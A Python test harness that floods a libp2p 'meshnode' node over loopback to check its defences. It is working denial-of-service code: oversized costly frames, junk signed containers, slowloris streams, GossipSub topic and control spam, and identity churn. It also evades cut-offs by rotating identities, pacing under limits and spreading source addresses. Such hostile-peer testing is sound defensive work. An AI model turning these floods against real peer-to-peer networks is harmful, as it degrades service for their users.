"""A flooding attacker for the hostile-peer tests and bench/attack.py.

    python tests/flood_peer.py MODE MULTIADDR_WITH_P2P [--seconds S] [--workers W] [options]

Each of W workers is a py-libp2p host with a fresh identity (a new one whenever
the node cuts it off, or when a mode leaves on purpose), all on one address
(``--source``, 127.0.0.1 by default) or, with ``--spread N``, each identity from its own
/24 on loopback (Linux answers all of 127/8): identity k dials from 127.a.b.2, where
b = k mod N mod 256 and a = the second byte of ``--source`` plus k mod N div 256 (N up to
256 stays in the source's /16). Any mode runs spread:

- ``bigframe``: valid-CBOR 1 MiB exchange frames (``{"op": "push", "zz": [[], ...]}``)
  and pushes of a 256 KiB container of empty arrays, paced to stay under the
  cut-off (``--pace`` frames per 30 s, ``--per-identity`` frames, then a new identity);
- ``identities``: a fresh identity per round, ``--frames`` costly frames at once, then it leaves;
- ``junk``: valid containers signed by throw-away keys, pushed over the exchange
  and published on the containers topic (it subscribes and joins the mesh);
- ``slowloris``: up to ``--streams`` exchange and sync streams held open per worker,
  half trickled one byte every ``--trickle`` s, half silent;
- ``biggossip``: gossip over 64 KiB and just under it: costly (empty-array) valid
  containers and undecodable bytes;
- ``churn``: identities that connect and leave at once, ``--identities`` of them in all;
- ``topics``: unknown-topic and subscription spam, written as raw GossipSub RPCs (py-libp2p's
  rpc_pb2 on a /meshsub stream of our own, so py-libp2p's pubsub client limits nothing): each
  RPC SUBSCRIBEs to ``--subscriptions`` topics the node does not follow (and UNSUBSCRIBEs from
  them in the next), publishes one signed ``--size``-byte message on one of them and announces
  a 200-id IHAVE on another; ``--leave-after`` RPCs, then a new identity;
- ``control``: GossipSub control spam: IHAVEs of 200 unknown ids (on the containers topic and on
  unknown topics), IWANTs of 200 unknown ids, GRAFT and PRUNE on unknown topics;
- ``mixed``: all of the above at once, worker i running mode i mod 8 (bigframe, identities, junk,
  slowloris, biggossip, topics, control, churn);
- ``newcomer``: not an attack: from each of ``--source``'s comma-separated addresses, one honest
  identity at a time asks the node for a container it lacks (an exchange ``fetch``, answered
  ``found``) until it is served or ``--seconds`` pass; its summary says, per address, when one
  connected and was served (``newcomers``: ``connected_after_s``, ``served_after_s``, ``tries``).

It prints "started" when its payloads are ready and the clock starts, and at
``--seconds`` one JSON line: what it sent, what the node answered
(``outcomes``), how much the node served in full (``served``) and how often it
refused, reset, timed out or cut the attacker off (``refused``, ``rotations``), how many
source addresses it used (``sources``) and the first (``source``).
"""

from __future__ import annotations

import argparse
import contextlib
import contextvars
import dataclasses
import json
import logging
import os
import sys
import time
from collections import Counter

import multiaddr
import trio
from libp2p import new_host
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.crypto.x25519 import create_new_key_pair as x25519_key_pair
from libp2p.network.config import ConnectionConfig
from libp2p.peer.peerinfo import info_from_p2p_addr
from libp2p.security.noise.transport import PROTOCOL_ID as NOISE, Transport as Noise
from libp2p.stream_muxer.yamux.yamux import PROTOCOL_ID as YAMUX, Yamux
from libp2p.utils.varint import read_varint_prefixed_bytes_limited

from meshharness import pct
from meshnode.base.container import ContainerError, build_container, cbor, now_ms
from meshnode.base.container.model import DEFAULT_LIMITS, Limits, container_did_for
from meshnode.base.identity.keys import NodeKey
from meshnode.net import exchange, libp2p_fixes
from meshnode.net.frames import encode_frame, encode_varint

MIB = 1 << 20
CONTAINER_TOPIC = "/meshnode/containers/1"  # meshnode.net.mesh_gossip.CONTAINER_TOPIC
SYNC_PROTOCOL = "/meshnode/sync/1.0.0"  # meshnode.net.mesh_sync.SYNC_PROTOCOL_V1 (served as 2.0.0 is, by SyncSessions.serve)
MIXED = ("bigframe", "identities", "junk", "slowloris", "biggossip", "topics", "control", "churn")
MODES = (*MIXED, "mixed", "newcomer")
MESHSUB = ["/meshsub/1.1.0", "/meshsub/1.0.0"]  # what meshnode's GossipSub speaks, besides 1.2.0
IHAVE_IDS = 200  # message ids per IHAVE/IWANT: gossipsub's own cap on ids per IHAVE is 5000
ANSWER_TIMEOUT = 30.0  # a loaded node answers late; later than this counts as a timeout


# --- what it sends ---------------------------------------------------------------


def zz_frame(limit: int = MIB) -> bytes:
    """A valid deterministic-CBOR exchange frame of ``limit`` bytes: a push without
    containers and an array of empty arrays (decoded in full before it is refused).
    Written by hand: encoding a million-item list takes seconds."""
    prefix = cbor.encode({"op": "push", "zz": []})[:-1]  # the map up to its last value, an empty array
    n = limit - len(prefix) - 5
    body = prefix + b"\x9a" + n.to_bytes(4, "big") + b"\x80" * n  # array of n items (4-byte length), n x []
    return encode_frame(body)


def costly_container(size: int, cls: str) -> bytes:
    """A validly signed container of class ``cls`` and at most ``size`` bytes whose payload is
    empty arrays (the costliest to decode per byte: 7x empty strings), from a throw-away key.
    Built past any item-count limit of the builder: refusing it early is the node's job."""
    n = size - 600
    while True:
        items = [[]] * n
        try:
            with _taken_as_canonical(items):
                data = build_container(NodeKey.generate(), cls, {"a": items}, timestamp_ms=now_ms(),
                                       limits=UNLIMITED_ITEMS).to_bytes()
        except ContainerError as exc:
            if exc.code != "too_large":
                raise
            n -= 512
            continue
        if len(data) <= size:
            return data
        n -= len(data) - size


@contextlib.contextmanager
def _taken_as_canonical(items: list):
    """The builder copies a payload item by item in Python to put its maps' keys in order: 2/3
    of the time of building a container of empty arrays, on the cores the victim shares. An array
    of empty arrays has no maps: while the block runs, ``items`` is taken as it is."""
    original = cbor.canonicalize

    def canonicalize(value, *args, **kwargs):
        return (value, False) if value is items else original(value, *args, **kwargs)

    cbor.canonicalize = canonicalize
    try:
        yield
    finally:
        cbor.canonicalize = original


# the default limits, without an item count (a field only code after issue 13 has)
UNLIMITED_ITEMS = dataclasses.replace(
    DEFAULT_LIMITS, **({"max_items": 1 << 30} if "max_items" in {f.name for f in dataclasses.fields(Limits)} else {}))


# the classes of what each mode makes a node store, so that a test counts one attack's leftovers apart
BIGFRAME_CLASS, JUNK_CLASS, GOSSIP_CLASS = "x_flood_bigframe", "x_flood_junk", "x_flood_gossip"


def junk_container(text_bytes: int = 8000) -> bytes:
    """A valid container of about 8 KiB from a throw-away key: what fills a store."""
    return build_container(NodeKey.generate(), JUNK_CLASS, {"text": os.urandom(text_bytes // 2).hex()},
                           timestamp_ms=now_ms()).to_bytes()


def push_frame(items: list[bytes]) -> bytes:
    return encode_frame(exchange.encode_message({"op": "push", "containers": items}))


# --- what it saw -------------------------------------------------------------------


class Tally:
    """Counts shared by all workers; ``summary`` is the JSON line."""

    def __init__(self, mode: str, seconds: float, workers: int):
        self.mode, self.seconds, self.workers = mode, seconds, workers
        self.sent: Counter = Counter()
        self.outcomes: Counter = Counter()
        self.rotations: Counter = Counter()
        self.extra: Counter = Counter()
        self.bytes_sent = self.identities = self.connected = self.served = self.refused = 0
        self.answer_ms: list[float] = []
        self.hold_s: list[float] = []
        self.open_now = 0
        self.sources: dict[str, None] = {}  # the addresses identities dialled from, in order of first use

    def sending(self, kind: str, size: int) -> None:
        self.sent[kind] += 1
        self.bytes_sent += size

    def answered(self, outcome: str, served: bool, ms: float | None = None) -> None:
        self.outcomes[outcome] += 1
        if served:
            self.served += 1
        elif outcome.split(":")[0] in REFUSALS or outcome.startswith(("ack:rejected", "error:")):
            self.refused += 1
        if ms is not None:
            self.answer_ms.append(ms)

    def summary(self) -> dict:
        out = {"mode": self.mode, "seconds": self.seconds, "workers": self.workers,
               "source": next(iter(self.sources), SOURCE[0]), "sources": len(self.sources),
               "identities": self.identities, "connected": self.connected,
               "sent": dict(self.sent), "bytes_sent": self.bytes_sent, "outcomes": dict(self.outcomes),
               "served": self.served, "refused": self.refused, "rotations": dict(self.rotations), **self.extra}
        if self.answer_ms:
            out["answer_ms_p50"] = pct(self.answer_ms, 50)
            out["answer_ms_max"] = round(max(self.answer_ms), 1)
        if self.mode in ("slowloris", "mixed"):
            out["open_at_deadline"] = self.open_now
            out["hold_s_p50"] = pct(self.hold_s, 50)
            out["hold_s_max"] = round(max(self.hold_s), 1) if self.hold_s else None
        return out


# "disconnected": cut off, or the connection broke (the attacker cannot tell which; the node's
# metrics can); the last three: a held stream that the node answered (busy), closed or reset
REFUSALS = {"reset", "timeout", "disconnected", "connect_failed", "open_failed", "answered", "closed_by_node",
            "reset_by_node"}


# --- one identity ------------------------------------------------------------------


class Peer:
    """One identity connected to the target: exchange requests, raw streams, gossip."""

    def __init__(self, host, info, tally: Tally):
        self.host, self.info, self.tally = host, info, tally
        self.pubsub = None

    def connected(self) -> bool:
        return self.info.peer_id in self.host.get_connected_peers()

    async def request(self, frame: bytes) -> tuple[str, dict | None, float]:
        """Send one exchange frame; (outcome, the node's answer or None, ms until it came)."""
        started = time.perf_counter()
        try:
            with trio.fail_after(ANSWER_TIMEOUT):
                stream = await self.host.new_stream(self.info.peer_id, [exchange.PROTOCOL_ID])
                try:
                    await stream.write(frame)
                    await stream.close()
                    data = await read_varint_prefixed_bytes_limited(stream, MIB)
                except BaseException:
                    await _quietly(stream.reset())
                    raise
        except trio.TooSlowError:
            return "timeout", None, (time.perf_counter() - started) * 1000
        except Exception:
            return ("reset" if self.connected() else "disconnected"), None, (time.perf_counter() - started) * 1000
        ms = (time.perf_counter() - started) * 1000
        try:
            message = exchange.decode_message(data, MIB)
        except exchange.ExchangeError:
            return "bad_answer", None, ms
        if message["op"] == "error":
            return f"error:{message['code']}", message, ms
        if message["op"] == "ack":
            if message["rejected"]:
                return f"ack:rejected:{message['rejected'][0]['code']}", message, ms
            return ("ack:accepted" if message["accepted"] else "ack:duplicate"), message, ms
        return message["op"], message, ms

    async def send(self, kind: str, frame: bytes, served_if: tuple[str, ...]) -> str:
        """``request`` counted in the tally; ``served_if``: the answers that mean the node did the whole work."""
        self.tally.sending(kind, len(frame))
        outcome, _, ms = await self.request(frame)
        self.tally.answered(outcome, outcome in served_if, ms)
        return outcome

    def make_pubsub(self):
        """A GossipSub router and Pubsub as meshnode makes them (signed, content-addressed ids);
        returns the router (both run as services while the identity gossips)."""
        from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11, GossipSub
        from libp2p.pubsub.pubsub import ContentAddressedMessageIDGenerator, Pubsub

        gossipsub = GossipSub(protocols=[PROTOCOL_ID_V11], degree=6, degree_low=4, degree_high=12,
                              heartbeat_initial_delay=0.1, heartbeat_interval=1)
        self.pubsub = Pubsub(self.host, gossipsub, strict_signing=True,
                             msg_id_constructor=ContentAddressedMessageIDGenerator())
        return gossipsub

    async def publish(self, kind: str, data: bytes) -> None:
        self.tally.sending(kind, len(data))
        await self.pubsub.publish(CONTAINER_TOPIC, data)


async def _quietly(awaitable) -> None:
    with trio.CancelScope(shield=True), trio.move_on_after(2):
        try:
            await awaitable
        except Exception:
            pass


SOURCE = ["127.0.0.1"]  # the address every identity dials from (--source), or the first of a spread
SPREAD = [0]  # --spread: how many /24s the identities' addresses cycle through (0: all from SOURCE)
_dialling_from: contextvars.ContextVar[str | None] = contextvars.ContextVar("dialling_from", default=None)


def dial_from(address: str) -> None:
    """Every TCP connection this process opens leaves from ``address`` (any of 127.0.0.0/8 on
    loopback): one attack's address, so that what the node holds against it (an address ban)
    does not follow the next attack, which comes from another. Within ``as_source`` (one
    identity's tasks: contextvars follow trio's tasks), from that identity's own address."""
    SOURCE[0] = address
    original = trio.open_tcp_stream

    async def open_from(host, port, **kwargs):
        kwargs.setdefault("local_address", _dialling_from.get() or SOURCE[0])
        return await original(host, port, **kwargs)

    trio.open_tcp_stream = open_from  # py-libp2p's TCP transport dials through trio.open_tcp_stream


def spread_address(k: int, spread: int, source: str) -> str:
    """Identity ``k``'s address when identities cycle through ``spread`` /24s: 127.a.b.2, a new /24
    per identity (b = i mod 256, a = the second byte of ``source`` + i div 256, i = k mod spread)."""
    i = k % spread
    second = int(source.split(".")[1]) + (i >> 8)
    if second > 255:
        raise ValueError(f"--spread {spread} from {source} runs past 127.255/16")
    return f"127.{second}.{i & 255}.2"


def next_source(tally: "Tally") -> str:
    """The address of the next identity: ``SOURCE`` or, spread, the next /24 in turn."""
    address = spread_address(tally.identities, SPREAD[0], SOURCE[0]) if SPREAD[0] else SOURCE[0]
    tally.sources.setdefault(address, None)
    return address


def _new_host():
    key_pair = create_new_key_pair(NodeKey.generate().seed())
    return new_host(key_pair=key_pair, sec_opt={NOISE: Noise(key_pair, noise_privkey=x25519_key_pair().private_key)},
                    muxer_opt={YAMUX: Yamux}, connection_config=ConnectionConfig(max_connections_per_peer=1))


async def as_new_identity(info, tally: Tally, body, gossip: bool = False, raw_pubsub: bool = False,
                          source: str | None = None) -> None:
    """Run ``body(peer)`` as a fresh identity connected to the node, from its own address when
    spread; count why it ended (``body`` returns the reason: "disconnected", "budget", "left", ...).
    ``raw_pubsub``: the identity takes the node's pubsub streams (and drops what comes on them)
    without running a pubsub of its own; ``body`` writes RPCs itself."""
    host = _new_host()
    source = source or next_source(tally)
    tally.identities += 1
    _dialling_from.set(source)  # this task's identity; the host's tasks, started below, inherit it
    try:
        async with host.run([multiaddr.Multiaddr(f"/ip4/{source}/tcp/0")]):
            peer = Peer(host, info, tally)
            if raw_pubsub:
                for protocol in MESHSUB + ["/meshsub/1.2.0"]:
                    host.set_stream_handler(protocol, _drained)
            try:
                if gossip:
                    await _gossiping(peer, body)
                else:
                    await _connected(peer, body)
            finally:
                await _quietly(host.close())
    except Exception as exc:  # py-libp2p failed under us (e.g. a corrupted gossip RPC): a new identity
        tally.rotations[f"failed:{_innermost(exc)}"] += 1


async def _drained(stream) -> None:
    """What the node sends on its pubsub stream to a raw-pubsub identity: read and dropped."""
    try:
        while await stream.read(65536):
            pass
    except Exception:
        pass


def _innermost(exc: BaseException) -> str:
    while isinstance(exc, BaseExceptionGroup) and exc.exceptions:
        exc = exc.exceptions[0]
    return type(exc).__name__


async def _connected(peer: Peer, body) -> None:
    try:
        with trio.fail_after(10):
            await peer.host.connect(peer.info)
    except Exception:
        peer.tally.answered("connect_failed", False)
        peer.tally.rotations["connect_failed"] += 1
        await trio.sleep(0.2)  # a refused dial comes back at once: do not spin
        return
    peer.tally.connected += 1
    peer.tally.rotations[await body(peer)] += 1


async def _gossiping(peer: Peer, body) -> None:
    from libp2p.tools.anyio_service import background_trio_service

    gossipsub = peer.make_pubsub()
    try:
        async with background_trio_service(peer.pubsub), background_trio_service(gossipsub):
            await peer.pubsub.wait_until_ready()
            await peer.pubsub.subscribe(CONTAINER_TOPIC)

            async def joined(p: Peer) -> str:
                with trio.move_on_after(15):
                    while p.info.peer_id not in p.pubsub.peer_topics.get(CONTAINER_TOPIC, set()):
                        if not p.connected():
                            return "disconnected"
                        await trio.sleep(0.05)  # a poll: the node's subscription arrives on its own
                    return await body(p)
                return "not_subscribed"

            await _connected(peer, joined)
    finally:
        peer.pubsub.seen_messages.stop()


# --- the modes ---------------------------------------------------------------------


async def bigframe(info, tally: Tally, args) -> None:
    zz, big = args.zz, args.big
    interval = 30.0 / args.pace

    async def body(peer: Peer) -> str:
        for i in range(args.per_identity):
            started = trio.current_time()
            if i % 4 == 3:
                outcome = await peer.send("container", big, ("ack:accepted", "ack:duplicate"))
            else:
                outcome = await peer.send("bigframe", zz, ("error:bad_request",))
            if outcome in REFUSALS:
                return outcome
            await trio.sleep_until(started + interval)
        return "budget"

    while True:
        await as_new_identity(info, tally, body)


async def identities(info, tally: Tally, args) -> None:
    zz = args.zz

    async def body(peer: Peer) -> str:
        async with trio.open_nursery() as nursery:
            for _ in range(args.frames):
                nursery.start_soon(peer.send, "bigframe", zz, ("error:bad_request",))
        return "left"

    while True:
        await as_new_identity(info, tally, body)


async def junk(info, tally: Tally, args) -> None:
    async def pushes(peer: Peer) -> str:
        for _ in range(args.leave_after or 1 << 62):
            items = [junk_container() for _ in range(args.batch)]
            frame = push_frame(items)
            tally.sending("junk_push", len(frame))
            tally.extra["junk_pushed"] += len(items)
            outcome, answer, ms = await peer.request(frame)
            tally.answered(outcome, outcome in ("ack:accepted", "ack:duplicate"), ms)
            if answer is not None and answer["op"] == "ack":
                tally.extra["junk_accepted"] += len(answer["accepted"])
                tally.extra["junk_rejected"] += len(answer["rejected"])
            if outcome in REFUSALS:
                return outcome
            await trio.sleep(0)
        return "left"

    async def publishes(peer: Peer) -> str:
        while peer.connected():
            await peer.publish("junk_gossip", junk_container())
            await trio.sleep(1.0 / args.rate)
        return "disconnected"

    async def body(peer: Peer) -> str:
        ended = []
        async with trio.open_nursery() as nursery:
            async def one(loop) -> None:
                ended.append(await loop(peer))
                nursery.cancel_scope.cancel()
            nursery.start_soon(one, pushes)
            nursery.start_soon(one, publishes)
        return ended[0]

    while True:
        await as_new_identity(info, tally, body, gossip=True)


async def slowloris(info, tally: Tally, args) -> None:
    """Streams opened at a pace under the node's message rate and never reset by us (a reset
    mid-frame counts as invalid input): each is held until the node closes or resets it."""
    header = encode_varint(64 * 1024)  # a frame announced, never finished

    async def hold(peer: Peer, protocol: str, silent: bool, slots: trio.Semaphore) -> None:
        kind = ("silent_" if silent else "trickle_") + ("sync" if protocol == SYNC_PROTOCOL else "exchange")
        try:
            try:
                with trio.fail_after(10):
                    stream = await peer.host.new_stream(peer.info.peer_id, [protocol])
            except Exception:
                tally.answered("open_failed", False)
                return
            tally.sending(kind, 0)
            tally.open_now += 1
            started = trio.current_time()
            ended = []
            try:
                async with trio.open_nursery() as nursery:
                    async def reader() -> None:
                        try:
                            ended.append("closed_by_node" if not await stream.read(1024) else "answered")
                        except Exception:
                            ended.append("reset_by_node")
                        nursery.cancel_scope.cancel()

                    async def trickler() -> None:
                        try:
                            await stream.write(header)
                            while True:
                                await trio.sleep(args.trickle)
                                await stream.write(b"\x00")
                                tally.bytes_sent += 1
                        except Exception:
                            ended.append("reset_by_node")
                            nursery.cancel_scope.cancel()

                    nursery.start_soon(reader)
                    if not silent:
                        nursery.start_soon(trickler)
            finally:
                tally.open_now -= 1
                tally.hold_s.append(trio.current_time() - started)
                if ended:
                    tally.answered(ended[0], False)
        finally:
            await trio.sleep(1.0)  # a freed slot is taken again a second later, not at once
            slots.release()

    async def body(peer: Peer) -> str:
        slots = trio.Semaphore(args.streams)
        async with trio.open_nursery() as nursery:
            i = 0
            while peer.connected():
                await slots.acquire()
                protocol = exchange.PROTOCOL_ID if i % 2 == 0 else SYNC_PROTOCOL
                nursery.start_soon(hold, peer, protocol, (i // 2) % 2 == 1, slots)
                i += 1
                await trio.sleep(0.05)  # 20 streams a second: under the node's message rate
            nursery.cancel_scope.cancel()
        return "disconnected"

    while True:
        await as_new_identity(info, tally, body)


async def biggossip(info, tally: Tally, args) -> None:
    makers = {"oversized": lambda: costly_container(96 * 1024, GOSSIP_CLASS),  # over what py-libp2p carries intact
              "just_under": lambda: costly_container(63 * 1024, GOSSIP_CLASS),  # the costliest that arrives whole
              "garbage": lambda: os.urandom(63 * 1024)}  # not a container: invalid input

    async def body(peer: Peer) -> str:
        while peer.connected():
            for kind, make in makers.items():
                await peer.publish(kind, make())
                await trio.sleep(1.0 / args.rate)
        return "disconnected"

    while True:
        await as_new_identity(info, tally, body, gossip=True)


async def churn(info, tally: Tally, args) -> None:
    async def body(peer: Peer) -> str:
        return "left"

    while tally.extra["churned"] < args.identities:  # its own count: in ``mixed`` other modes make identities too
        tally.extra["churned"] += 1
        await as_new_identity(info, tally, body)


# --- raw GossipSub RPCs: what py-libp2p's own pubsub client would never send -------------


def rpc_bytes(rpc) -> bytes:
    """One RPC as it goes on a pubsub stream: its length as a varint, then the protobuf."""
    data = rpc.SerializeToString()
    return encode_varint(len(data)) + data


def unknown_topic() -> str:
    return f"/x-flood/{os.urandom(6).hex()}"  # a topic no node subscribes to, new every time


def message_ids(n: int = IHAVE_IDS) -> list[bytes]:
    return [os.urandom(32) for _ in range(n)]  # ids of no message anyone has (opaque bytes, as go and js send)


def signed_message(host, topic: str, data: bytes):
    """A publish signed by ``host``'s identity as py-libp2p signs its own (strict signing)."""
    from libp2p.pubsub.pb import rpc_pb2
    from libp2p.pubsub.validators import PUBSUB_SIGNING_PREFIX

    message = rpc_pb2.Message(from_id=host.get_id().to_bytes(), data=data, seqno=os.urandom(8), topicIDs=[topic])
    message.signature = host.get_private_key().sign(PUBSUB_SIGNING_PREFIX.encode() + message.SerializeToString())
    message.key = host.get_public_key().serialize()
    return message


def topic_rpcs(host, args):
    """``topics``: RPC i SUBSCRIBEs to ``--subscriptions`` new unknown topics (even i) or UNSUBSCRIBEs
    from the previous ones (odd i), publishes a signed ``--size``-byte message on an unknown topic
    and announces a 200-id IHAVE on another."""
    from libp2p.pubsub.pb import rpc_pb2

    topics: list[str] = []

    def make(i: int):
        nonlocal topics
        subscribe = i % 2 == 0
        if subscribe:
            topics = [unknown_topic() for _ in range(args.subscriptions)]
        control = rpc_pb2.ControlMessage(ihave=[rpc_pb2.ControlIHave(topicID=unknown_topic(), messageIDs=message_ids())])
        return "topic_rpc", rpc_pb2.RPC(
            subscriptions=[rpc_pb2.RPC.SubOpts(subscribe=subscribe, topicid=t) for t in topics],
            publish=[signed_message(host, topics[0], os.urandom(args.size))], control=control)
    return make


def control_rpcs(host, args):
    """``control``: IHAVEs of 200 unknown ids on the containers topic and on an unknown one, an IWANT
    of 200 unknown ids, GRAFTs and PRUNEs on unknown topics."""
    from libp2p.pubsub.pb import rpc_pb2

    def make(i: int):
        control = rpc_pb2.ControlMessage(
            ihave=[rpc_pb2.ControlIHave(topicID=CONTAINER_TOPIC, messageIDs=message_ids()),
                   rpc_pb2.ControlIHave(topicID=unknown_topic(), messageIDs=message_ids())],
            iwant=[rpc_pb2.ControlIWant(messageIDs=message_ids())],
            graft=[rpc_pb2.ControlGraft(topicID=unknown_topic()) for _ in range(8)],
            prune=[rpc_pb2.ControlPrune(topicID=unknown_topic(), backoff=60) for _ in range(8)])
        return "control_rpc", rpc_pb2.RPC(control=control)
    return make


async def raw_rpcs(info, tally: Tally, args, rpcs) -> None:
    """Throw-away identities that each write ``--leave-after`` RPCs (``rpcs(host, args)(i)`` gives
    the i-th: kind, RPC) at ``--rate`` a second on a pubsub stream of their own, then leave; a
    write the node refuses (reset, closed, cut off) or leaves waiting ``ANSWER_TIMEOUT`` ends one."""
    async def body(peer: Peer) -> str:
        try:
            with trio.fail_after(10):
                stream = await peer.host.new_stream(peer.info.peer_id, MESHSUB)
        except Exception:
            tally.answered("open_failed", False)
            return "open_failed"
        make = rpcs(peer.host, args)
        try:
            for i in range(args.leave_after or 1 << 62):
                started = trio.current_time()
                kind, rpc = make(i)
                data = rpc_bytes(rpc)
                tally.sending(kind, len(data))
                try:
                    with trio.fail_after(ANSWER_TIMEOUT):
                        await stream.write(data)
                except trio.TooSlowError:
                    tally.answered("timeout", False)
                    return "timeout"
                except Exception:
                    outcome = "reset" if peer.connected() else "disconnected"
                    tally.answered(outcome, False)
                    return outcome
                await trio.sleep_until(started + 1.0 / args.rate)
            return "left"
        finally:
            await _quietly(stream.close())

    while True:
        await as_new_identity(info, tally, body, raw_pubsub=True)


async def topics(info, tally: Tally, args) -> None:
    await raw_rpcs(info, tally, args, topic_rpcs)


async def control(info, tally: Tally, args) -> None:
    await raw_rpcs(info, tally, args, control_rpcs)


async def mixed(info, tally: Tally, args) -> None:
    """Every attack at once: this worker runs the next mode of ``MIXED`` in turn."""
    worker = int(tally.extra["mixed_workers"])
    tally.extra["mixed_workers"] += 1
    await globals()[MIXED[worker % len(MIXED)]](info, tally, args)


# --- an honest newcomer --------------------------------------------------------------


async def newcomer(info, tally: Tally, args) -> None:
    """A fresh identity asks for a container the node lacks (``found``, with it missing, is being
    served); until it is, a new identity tries again a second later. Ends when served. Worker i
    dials from the i-th of ``--source``'s comma-separated addresses; what each saw goes to
    ``newcomers`` in the summary: {address: {connected_after_s, served_after_s, tries}}."""
    started = trio.current_time()
    seen = tally.extra.setdefault("newcomers", {})
    source = args.sources[len(seen) % len(args.sources)]
    mine = seen[source] = {"connected_after_s": None, "served_after_s": None, "tries": 0}
    frame = encode_frame(exchange.encode_message({"op": "fetch", "dids": [container_did_for(os.urandom(64))]}))

    async def body(peer: Peer) -> str:
        if mine["connected_after_s"] is None:
            mine["connected_after_s"] = round(trio.current_time() - started, 1)
        outcome = await peer.send("fetch", frame, ("found",))
        if outcome == "found":
            mine["served_after_s"] = round(trio.current_time() - started, 1)
        return outcome

    while mine["served_after_s"] is None:
        mine["tries"] += 1
        await as_new_identity(info, tally, body, source=source)
        if mine["served_after_s"] is None:
            await trio.sleep(1.0)  # an honest peer retries at a human pace


async def main(args) -> None:
    libp2p_fixes.route_libp2p_logging()
    logging.disable(logging.CRITICAL)  # libp2p logs every refusal; the summary line says what happened
    libp2p_fixes.enlarge_pubsub_queues()
    args.sources = args.source.split(",")  # several for ``newcomer`` only
    if args.mode == "newcomer":
        args.workers = len(args.sources)
    dial_from(args.sources[0])
    SPREAD[0] = args.spread
    if args.spread:
        spread_address(args.spread - 1, args.spread, args.source)  # refused here if it runs past 127/8
    info = info_from_p2p_addr(multiaddr.Multiaddr(args.target))
    tally = Tally(args.mode, args.seconds, args.workers)
    args.zz = zz_frame()  # built before the clock starts (the node's cost, not ours, is measured)
    args.big = push_frame([costly_container(256 * 1024 - 64, BIGFRAME_CLASS)]) \
        if args.mode in ("bigframe", "mixed") else None
    mode = globals()[args.mode]
    print("started", flush=True)  # the clock starts now: a watcher measures from this line
    async with trio.open_nursery() as nursery:
        finished = trio.Event()  # a mode may end before the deadline (churn: enough identities)

        async def workers() -> None:
            async with trio.open_nursery() as inner:
                for _ in range(args.workers):
                    inner.start_soon(mode, info, tally, args)
            finished.set()

        nursery.start_soon(workers)
        with trio.move_on_after(args.seconds):
            await finished.wait()
        print(json.dumps(tally.summary()), flush=True)  # the figures at the end; cleanup may take a moment
        nursery.cancel_scope.cancel()


def parse_args(argv: list[str]):
    parser = argparse.ArgumentParser(description="flood a meshnode node (see the module docstring)")
    parser.add_argument("mode", choices=MODES)
    parser.add_argument("target", help="the node's multiaddr, ending in /p2p/<peer id>")
    parser.add_argument("--seconds", type=float, default=10.0, help="how long to attack")
    parser.add_argument("--workers", type=int, default=2, help="concurrent identities")
    parser.add_argument("--source", default="127.0.0.1", help="the loopback address to attack from "
                        "(newcomer: several, comma-separated, one newcomer from each)")
    parser.add_argument("--pace", type=float, default=19.0, help="bigframe: frames per 30 s per identity")
    parser.add_argument("--per-identity", type=int, default=19, help="bigframe: frames before a new identity "
                        "(today's cut-off counts 20 invalid inputs)")
    parser.add_argument("--frames", type=int, default=3, help="identities: costly frames per identity")
    parser.add_argument("--batch", type=int, default=16, help="junk: containers per push")
    parser.add_argument("--rate", type=float, default=8.0, help="junk, biggossip: publishes per second per worker")
    parser.add_argument("--streams", type=int, default=32, help="slowloris: streams held open per worker")
    parser.add_argument("--identities", type=int, default=300, help="churn: identities in all (py-libp2p keeps "
                        "250 inbound slots at the node's default [net] max_connections)")
    parser.add_argument("--trickle", type=float, default=1.0, help="slowloris: seconds between trickled bytes")
    parser.add_argument("--spread", type=int, default=0, help="how many /24s the identities dial from, one per "
                        "identity in turn (127.a.b.2, a from --source's second byte); 0: all from --source")
    parser.add_argument("--leave-after", type=int, default=None, help="topics, control: RPCs per identity "
                        "(default 30); junk: pushes per identity (default 0: until cut off)")
    parser.add_argument("--size", type=int, default=56 * 1024, help="topics: bytes per published message")
    parser.add_argument("--subscriptions", type=int, default=40, help="topics: SUBSCRIBEs (then UNSUBSCRIBEs) per RPC")
    args = parser.parse_args(argv)
    if args.leave_after is None:
        args.leave_after = 30 if args.mode in ("topics", "control", "mixed") else 0
    return args


if __name__ == "__main__":
    trio.run(main, parse_args(sys.argv[1:]))
